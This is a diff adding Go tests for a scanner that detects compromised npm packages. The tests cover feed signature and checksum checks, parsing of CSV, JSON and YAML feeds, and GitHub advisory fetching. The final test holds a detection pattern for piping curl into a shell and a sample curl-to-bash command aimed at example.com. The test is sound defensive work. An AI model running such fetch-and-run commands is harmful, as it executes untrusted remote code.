+	if err != nil {
+		t.Fatal(err)
+	}
+	otherKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	signatures := map[string][]byte{
+		"/iocs.csv.sig": []byte(base64.StdEncoding.EncodeToString(ecSig) + "\n"),
+		"/raw.sig":      ecSig,
+		"/ed25519.sig":  ed25519.Sign(edKey, data),
+		"/tampered.sig": ed25519.Sign(edKey, []byte("Package,Version\n")),
+	}
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		sig, ok := signatures[r.URL.Path]
+		if r.URL.Path == "/private/iocs.csv.sig" && r.Header.Get("Authorization") == "Bearer secret" {
+			sig, ok = signatures["/iocs.csv.sig"], true
+		}
+		if !ok {
+			http.NotFound(w, r)
+			return
+		}
+		w.Write(sig)
+	}))
+	defer server.Close()
+	url := server.URL + "/iocs.csv"
+	private := http.Header{"Authorization": {"Bearer secret"}}
+
+	tests := []struct {
+		name   string
+		check  FeedCheck
+		url    string
+		header http.Header
+		want   string
+	}{
+		{"nothing pinned", FeedCheck{}, url, nil, ""},
+		{"matching checksum", FeedCheck{SHA256: "sha256:" + strings.ToUpper(hex.EncodeToString(digest[:]))}, url, nil, ""},
+		{"other checksum", FeedCheck{SHA256: strings.Repeat("ab", 32)}, url, nil, "expected the pinned"},
+		{"invalid checksum", FeedCheck{SHA256: "abc"}, url, nil, "64 hex digits"},
+		{"base64 signature next to the feed", FeedCheck{PublicKey: &ecKey.PublicKey}, url, nil, ""},
+		{"raw signature", FeedCheck{PublicKey: &ecKey.PublicKey, SignatureURL: server.URL + "/raw.sig"}, url, nil, ""},
+		{"ed25519 signature", FeedCheck{PublicKey: edPublic, SignatureURL: server.URL + "/ed25519.sig"}, url, nil, ""},
+		{"signature of other data", FeedCheck{PublicKey: edPublic, SignatureURL: server.URL + "/tampered.sig"}, url, nil, "does not verify"},
+		{"other key", FeedCheck{PublicKey: &otherKey.PublicKey}, url, nil, "does not verify"},
+		{"missing signature", FeedCheck{PublicKey: &ecKey.PublicKey, SignatureURL: server.URL + "/missing.sig"}, url, nil, "HTTP 404"},
+		{"checks off", FeedCheck{Mode: FeedCheckOff, SHA256: strings.Repeat("ab", 32)}, url, nil, "expected the pinned"},
+		{"private signature", FeedCheck{PublicKey: &ecKey.PublicKey}, server.URL + "/private/iocs.csv", private, ""},
+		{"credentials kept from other hosts", FeedCheck{PublicKey: &ecKey.PublicKey, SignatureURL: server.URL + "/private/iocs.csv.sig"}, "https://feed.invalid/iocs.csv", private, "HTTP 404"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := tt.check.Verify(data, tt.url, tt.header)
+			if tt.want == "" {
+				if err != nil {
+					t.Errorf("Verify() error = %v, want nil", err)
+				}
+				return
+			}
+			if err == nil || !strings.Contains(err.Error(), tt.want) {
+				t.Errorf("Verify() error = %v, want it to mention %q", err, tt.want)
+			}
+		})
+	}
+}
+
+// TestParsePublicKey tests loading PEM public keys
+func TestParsePublicKey(t *testing.T) {
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	der, err := x509.MarshalPKIXPublicKey(&key.PublicKey)
+	if err != nil {
+		t.Fatal(err)
+	}
+	parsed, err := ParsePublicKey(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}))
+	if err != nil {
+		t.Fatalf("ParsePublicKey failed: %v", err)
+	}
+	if !key.PublicKey.Equal(parsed) {
+		t.Error("ParsePublicKey() returned another key")
+	}
+	if _, err := ParsePublicKey([]byte("not a key")); err == nil {
+		t.Error("ParsePublicKey() should reject data without a PEM block")
+	}
+}
+
+func TestDetectFormat(t *testing.T) {
+	tests := []struct {
+		name        string
+		data        string
+		url         string
+		contentType string
+		want        string
+	}{
+		{"csv content type", "{}", "https://example.com/iocs", "text/csv; charset=utf-8", FormatCSV},
+		{"json content type", "Package,Version\n", "https://example.com/iocs", "application/json", FormatJSON},
+		{"yaml content type", "", "https://example.com/iocs", "application/yaml", FormatYAML},
+		{"json extension", "", "https://example.com/iocs.json?ref=main", "text/plain", FormatJSON},
+		{"yml extension", "", "https://example.com/iocs.yml", "", FormatYAML},
+		{"csv extension", "[]", "https://example.com/iocs.CSV", "", FormatCSV},
+		{"json object", "\n  {\"packages\": []}", "", "", FormatJSON},
+		{"json array", "\xef\xbb\xbf[]", "", "", FormatJSON},
+		{"yaml packages", "# IoCs\n---\npackages:\n  - package: evil\n", "", "", FormatYAML},
+		{"yaml list", "- package: evil\n  version: 1.0.1\n", "", "", FormatYAML},
+		{"csv", "Package,Version\nevil,= 1.0.1\n", "", "", FormatCSV},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := DetectFormat([]byte(tt.data), tt.url, tt.contentType); got != tt.want {
+				t.Errorf("DetectFormat() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestParseJSONEntries(t *testing.T) {
+	data := `{"packages": [
+  {"package": "evil", "versions": ["1.0.1", "= 1.0.2"], "severity": " Critical ", "added": "2025-11-24"},
+  {"name": "lodash", "version": "< 4.17.21", "ranges": [">= 5.0.0 < 5.0.2"],
+   "advisoryIds": ["GHSA-35jh-r3h4-6jhm"], "advisoryUrl": "https://example.com/a", "hashes": ["sha512-abc"]}
+]}`
+	entries, err := ParseJSONEntries([]byte(data))
+	if err != nil {
+		t.Fatalf("ParseJSONEntries failed: %v", err)
+	}
+	if len(entries) != 4 {
+		t.Fatalf("ParseJSONEntries() returned %d entries, want 4: %+v", len(entries), entries)
+	}
+	if entries[1].Version != "1.0.2" || entries[1].Advisory.Severity != "critical" || entries[1].Added.IsZero() {
+		t.Errorf("Unexpected version entry %+v", entries[1])
+	}
+	if entries[2].Range != "< 4.17.21" || entries[3].Range != ">= 5.0.0 < 5.0.2" {
+		t.Errorf("Expected range entries, got %+v and %+v", entries[2], entries[3])
+	}
+	if entries[3].Package != "lodash" || entries[3].Advisory.IDs[0] != "GHSA-35jh-r3h4-6jhm" || entries[3].Hashes[0] != "sha512-abc" {
+		t.Errorf("Unexpected advisory entry %+v", entries[3])
+	}
+
+	db, err := NewDatabaseFormat([]byte(data), FormatJSON)
+	if err != nil {
+		t.Fatalf("NewDatabaseFormat failed: %v", err)
+	}
+	if !db.Lookup("evil", "1.0.1") || !db.Lookup("lodash", "4.17.20") || db.Lookup("lodash", "4.17.21") {
+		t.Error("Database built from JSON does not match its entries")
+	}
+
+	exported, err := ExportJSON(entries)
+	if err != nil {
+		t.Fatalf("ExportJSON failed: %v", err)
+	}
+	roundTrip, err := ParseJSONEntries(exported)
+	if err != nil {
+		t.Fatalf("ParseJSONEntries() could not read an export: %v", err)
+	}
+	if !reflect.DeepEqual(roundTrip, entries) {
+		t.Errorf("Export round trip = %+v, want %+v", roundTrip, entries)
+	}
+
+	for name, bad := range map[string]string{
+		"invalid":          `{"packages": [`,
+		"no packages":      `{"iocs": []}`,
+		"missing name":     `[{"version": "1.0.0"}]`,
+		"missing versions": `[{"package": "evil"}]`,
+	} {
+		if _, err := ParseJSONEntries([]byte(bad)); err == nil {
+			t.Errorf("ParseJSONEntries() should reject %s data", name)
+		}
+	}
+}
+
+func TestParseYAMLEntries(t *testing.T) {
+	data := `# Compromised packages
+packages:
+  - package: evil
+    versions: ["1.0.1", '1.0.2'] # both published on the same day
+    severity: high
+  - name: "@scope/pkg"
+    range: "< 2.0.0"
+    advisoryIds:
+      - GHSA-aaaa-bbbb-cccc
+      - CVE-2025-0001
+    campaign: Shai-Hulud
+  -
+    package: other
+    version: 3.0.0
+`
+	entries, err := ParseYAMLEntries([]byte(data))
+	if err != nil {
+		t.Fatalf("ParseYAMLEntries failed: %v", err)
+	}
+	want := []Entry{
+		{Package: "evil", Version: "1.0.1", Advisory: Advisory{Severity: "high"}, Row: 3},
+		{Package: "evil", Version: "1.0.2", Advisory: Advisory{Severity: "high"}, Row: 3},
+		{Package: "@scope/pkg", Range: "< 2.0.0", Advisory: Advisory{IDs: []string{"GHSA-aaaa-bbbb-cccc", "CVE-2025-0001"}, Campaign: "Shai-Hulud"}, Row: 6},
+		{Package: "other", Version: "3.0.0", Row: 12},
+	}
+	if !reflect.DeepEqual(entries, want) {
+		t.Errorf("ParseYAMLEntries() = %+v, want %+v", entries, want)
+	}
+
+	topLevel, err := ParseYAMLEntries([]byte("- package: evil\n  version: 1.0.1\n"))
+	if err != nil || len(topLevel) != 1 || topLevel[0].Row != 1 {
+		t.Errorf("ParseYAMLEntries() of a top-level list = %+v, %v", topLevel, err)
+	}
+
+	tests := []struct {
+		name string
+		data string
+		want string
+	}{
+		{"not a list", "iocs:\n  - evil\n", "line 1"},
+		{"missing versions", "packages:\n  - package: evil\n    severity: high\n", "line 2: package \"evil\" lists no versions"},
+		{"bad flow list", "packages:\n  - package: evil\n    versions: [1.0.1\n", "line 3"},
+		{"bad indentation", "packages:\n  - package: evil\n  version: 1.0.1\n", "line 3: unexpected indentation"},
+		{"not a mapping", "packages:\n  - package: evil\n    1.0.1\n", "line 3: expected key: value"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := ParseYAMLEntries([]byte(tt.data))
+			if err == nil || !strings.Contains(err.Error(), tt.want) {
+				t.Errorf("ParseYAMLEntries() error = %v, want it to mention %q", err, tt.want)
+			}
+		})
+	}
+}
+
+func TestFeedCheckFormat(t *testing.T) {
+	url := "https://mirror.example.com/iocs"
+	tests := []struct {
+		name   string
+		check  FeedCheck
+		data   string
+		format string
+		want   string
+	}{
+		{"valid JSON", FeedCheck{}, `[{"package": "evil", "version": "1.0.1"}]`, FormatJSON, ""},
+		{"valid YAML", FeedCheck{}, "packages:\n  - package: evil\n    version: 1.0.1\n", FormatYAML, ""},
+		{"invalid JSON", FeedCheck{}, `[{"package": "evil"`, FormatJSON, "not valid JSON"},
+		{"truncated YAML", FeedCheck{}, "packages:\n  - package: evil\n    version: 1.0.1", FormatYAML, "truncated"},
+		{"html page", FeedCheck{}, "<html></html>", FormatJSON, "HTML"},
+		{"empty list", FeedCheck{}, `{"packages": []}`, FormatJSON, "0 packages"},
+		{"packages counted once", FeedCheck{MinRows: 2}, `[{"package": "evil", "versions": ["1.0.1", "1.0.2"]}]`, FormatJSON, "1 packages, expected at least 2"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := tt.check.CheckFormat([]byte(tt.data), url, tt.format)
+			if tt.want == "" {
+				if err != nil {
+					t.Errorf("CheckFormat() error = %v, want nil", err)
+				}
+				return
+			}
+			if err == nil || !strings.Contains(err.Error(), tt.want) {
+				t.Errorf("CheckFormat() error = %v, want it to mention %q", err, tt.want)
+			}
+		})
+	}
+}
+
+// staticSource is a Source returning fixed entries.
+type staticSource []Entry
+
+func (s staticSource) Fetch(ctx context.Context) ([]Entry, error) {
+	return append([]Entry(nil), s...), nil
+}
+
+func TestRegisterSource(t *testing.T) {
+	src := staticSource{{Package: "evil", Version: "1.0.1", Source: "other"}, {Package: "lodash", Range: "< 4.17.21"}}
+	if err := RegisterSource("test-internal", src); err != nil {
+		t.Fatalf("RegisterSource failed: %v", err)
+	}
+
+	for name, s := range map[string]Source{"": src, "a,b": src, "with space": src, SourceOSV: src, SourceFile: src, "test-internal": src, "test-nil": nil} {
+		if err := RegisterSource(name, s); err == nil {
+			t.Errorf("RegisterSource(%q) should fail", name)
+		}
+	}
+
+	sources, err := ParseSources("csv,test-internal")
+	if err != nil || strings.Join(sources, ",") != "csv,test-internal" {
+		t.Errorf("ParseSources() = %v, %v; want the registered source accepted", sources, err)
+	}
+	if !IsRegisteredSource("test-internal") || IsRegisteredSource(SourceCSV) {
+		t.Error("IsRegisteredSource() should only report registered sources")
+	}
+
+	db, err := NewDatabaseFromRegistered(context.Background(), "test-internal")
+	if err != nil {
+		t.Fatalf("NewDatabaseFromRegistered failed: %v", err)
+	}
+	if !db.Lookup("evil", "1.0.1") || !db.Lookup("lodash", "4.17.20") {
+		t.Error("Database of a registered source is missing its entries")
+	}
+	if records := db.SourcesFor("evil", "1.0.1"); len(records) != 1 || records[0].Source != "test-internal" {
+		t.Errorf("Entries should be attributed to the registered name, got %+v", records)
+	}
+	if _, err := NewDatabaseFromRegistered(context.Background(), "test-missing"); err == nil {
+		t.Error("NewDatabaseFromRegistered() should fail for unknown sources")
+	}
+}
+
+func TestFileSource(t *testing.T) {
+	dir := t.TempDir()
+	files := map[string]string{
+		"iocs.csv":  "Package,Version\nevil,= 1.0.1\n",
+		"iocs.json": `[{"package": "evil", "version": "1.0.1"}]`,
+		"iocs.yml":  "- package: evil\n  version: 1.0.1\n",
+		"iocs":      "packages:\n  - package: evil\n    version: 1.0.1\n",
+	}
+	for name, data := range files {
+		path := dir + "/" + name
+		if err := os.WriteFile(path, []byte(data), 0644); err != nil {
+			t.Fatal(err)
+		}
+		entries, err := FileSource{Path: path}.Fetch(context.Background())
+		if err != nil {
+			t.Errorf("Fetch(%s) failed: %v", name, err)
+			continue
+		}
+		if len(entries) != 1 || entries[0].Package != "evil" || entries[0].Version != "1.0.1" || entries[0].Source != SourceFile {
+			t.Errorf("Fetch(%s) = %+v", name, entries)
+		}
+	}
+
+	if _, err := (FileSource{Path: dir + "/iocs.csv", Format: FormatJSON}).Fetch(context.Background()); err == nil {
+		t.Error("Fetch() should parse the file in the given format")
+	}
+	if _, err := (FileSource{Path: dir + "/missing.csv"}).Fetch(context.Background()); err == nil {
+		t.Error("Fetch() of a missing file should fail")
+	}
+}
+
+func TestGHSASourceFetch(t *testing.T) {
+	var requests []*http.Request
+	var server *httptest.Server
+	server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		requests = append(requests, r)
+		query := r.URL.Query()
+		if query.Get("type") != "malware" {
+			w.Write([]byte(`[]`))
+			return
+		}
+		if query.Get("after") == "" {
+			w.Header().Set("Link", `<`+server.URL+`/?ecosystem=npm&type=malware&after=page2>; rel="next", <`+server.URL+`/?before=x>; rel="prev"`)
+			w.Write([]byte(`[{"ghsa_id": "GHSA-aaaa-bbbb-cccc", "cve_id": null, "html_url": "https://github.com/advisories/GHSA-aaaa-bbbb-cccc",
+				"severity": "critical", "published_at": "2025-11-24T10:00:00Z", "withdrawn_at": null,
+				"vulnerabilities": [
+					{"package": {"ecosystem": "npm", "name": "evil"}, "vulnerable_version_range": "= 1.0.1"},
+					{"package": {"ecosystem": "npm", "name": "unrelated"}, "vulnerable_version_range": ">= 0"},
+					{"package": {"ecosystem": "pip", "name": "evil"}, "vulnerable_version_range": ">= 0"}]}]`))
+			return
+		}
+		w.Write([]byte(`[{"ghsa_id": "GHSA-dddd-eeee-ffff", "cve_id": "CVE-2025-0001", "severity": "unknown", "published_at": "2025-11-25T10:00:00Z",
+			"vulnerabilities": [{"package": {"ecosystem": "npm", "name": "lodash"}, "vulnerable_version_range": ">= 4.0.0, < 4.17.21"}]},
+			{"ghsa_id": "GHSA-gggg-hhhh-iiii", "withdrawn_at": "2025-11-26T10:00:00Z",
+			"vulnerabilities": [{"package": {"ecosystem": "npm", "name": "lodash"}, "vulnerable_version_range": ">= 0"}]}]`))
+	}))
+	defer server.Close()
+
+	src := &GHSASource{Packages: []string{"evil", "lodash"}, URL: server.URL, Token: "secret"}
+	got, err := src.Fetch(context.Background())
+	if err != nil {
+		t.Fatalf("Fetch failed: %v", err)
+	}
+
+	want := []Entry{
+		{Package: "evil", Version: "1.0.1", Added: time.Date(2025, 11, 24, 10, 0, 0, 0, time.UTC), Source: SourceGHSA, Advisory: Advisory{
+			IDs: []string{"GHSA-aaaa-bbbb-cccc"}, URL: "https://github.com/advisories/GHSA-aaaa-bbbb-cccc", Severity: "critical"}},
+		{Package: "lodash", Range: ">= 4.0.0 < 4.17.21", Added: time.Date(2025, 11, 25, 10, 0, 0, 0, time.UTC), Source: SourceGHSA, Advisory: Advisory{
+			IDs: []string{"GHSA-dddd-eeee-ffff", "CVE-2025-0001"}}},
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("Fetch() = %+v, want %+v", got, want)
+	}
+
+	// reviewed, then two pages of malware
+	if len(requests) != 3 {
+		t.Fatalf("Fetch() sent %d requests, want 3", len(requests))
+	}
+	first := requests[0].URL.Query()
+	if first.Get("ecosystem") != "npm" || first.Get("type") != "reviewed" || first.Get("affects") != "evil,lodash" {
+		t.Errorf("Unexpected query %v", first)
+	}
+	if requests[0].Header.Get("Authorization") != "Bearer secret" {
+		t.Error("Fetch() should authenticate with the token")
+	}
+
+	failing := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.WriteHeader(http.StatusForbidden)
+	}))
+	defer failing.Close()
+	if _, err := (&GHSASource{Packages: []string{"evil"}, URL: failing.URL}).Fetch(context.Background()); err == nil || !strings.Contains(err.Error(), "403") {
+		t.Errorf("Fetch() error = %v, want the HTTP status", err)
+	}
+}
+
+// TestDatabaseMatchScript tests malicious script indicators from CSV,
+// JSON and YAML feeds
+func TestDatabaseMatchScript(t *testing.T) {
+	csvData := []byte(`Package,Version,Script,Campaign
+evil,= 1.0.1,node  bundle.js || re:curl .*\| *(ba)?sh,shai-hulud
+other,= 2.0.0,node bundle.js,
+broken,= 1.0.0,re:(,
+clean,= 1.0.0,,`)
+
+	entries, err := ParseEntries(csvData)
+	if err != nil {
+		t.Fatalf("ParseEntries() error = %v", err)
+	}
+	if want := []string{"node  bundle.js", `re:curl .*\| *(ba)?sh`}; !reflect.DeepEqual(entries[0].Scripts, want) {
+		t.Errorf("entries[0].Scripts = %q, want %q", entries[0].Scripts, want)
+	}
+
+	db := NewDatabaseFromEntries(entries)
+	// Duplicate patterns and invalid expressions are skipped
+	if db.ScriptCount() != 2 {
+		t.Errorf("ScriptCount() = %d, want 2", db.ScriptCount())
+	}
+
+	tests := []struct {
+		script      string
+		wantPattern string
+	}{
+		{"node bundle.js", "node  bundle.js"},
+		{"echo hi &&  node\tbundle.js --quiet", "node  bundle.js"},
+		{"curl -s https://example.com/x | bash", `re:curl .*\| *(ba)?sh`},
+		{"node build.js", ""},
+		{"", ""},
+	}
+	for _, tt := range tests {
+		indicator, ok := db.MatchScript(tt.script)
+		if ok != (tt.wantPattern != "") || indicator.Pattern != tt.wantPattern {
+			t.Errorf("MatchScript(%q) = %q, %v; want %q", tt.script, indicator.Pattern, ok, tt.wantPattern)
+		}
+		if ok && indicator.Entry.Package != "evil" {
+			t.Errorf("MatchScript(%q) entry = %s, want the first listing evil", tt.script, indicator.Entry.Package)
+		}
+	}
+
+	for _, format := range []struct{ name, data string }{
+		{FormatJSON, `[{"package": "evil", "version": "1.0.1", "scripts": ["node bundle.js"]}]`},
+		{FormatYAML, "packages:\n  - package: evil\n    version: 1.0.1\n    scripts:\n      - node bundle.js\n"},
+	} {
+		db, err := NewDatabaseFormat([]byte(format.data), format.name)
+		if err != nil {
+			t.Fatalf("NewDatabaseFormat(%s) error = %v", format.name, err)
+		}
+		if _, ok := db.MatchScript("node bundle.js"); !ok {
+			t.Errorf("%s feed: expected the scripts field to be indexed", format.name)
+		}
+	}
+
+	without, err := NewDatabase([]byte("Package,Version\nevil,= 1.0.1\n"))
+	if err != nil {
+		t.Fatalf("NewDatabase failed: %v", err)
+	}
+	withEmpty, err := NewDatabase([]byte("Package,Version,Script\nevil,= 1.0.1,\n"))
+	if err != nil {
+		t.Fatalf("NewDatabase failed: %v", err)
+	}
+	if without.Digest() != withEmpty.Digest() {
+		t.Error("Digest() changed with an empty script column")
+	}
+	if without.ScriptCount() != 0 {
+		t.Errorf("ScriptCount() = %d, want 0", without.ScriptCount())
+	}
+}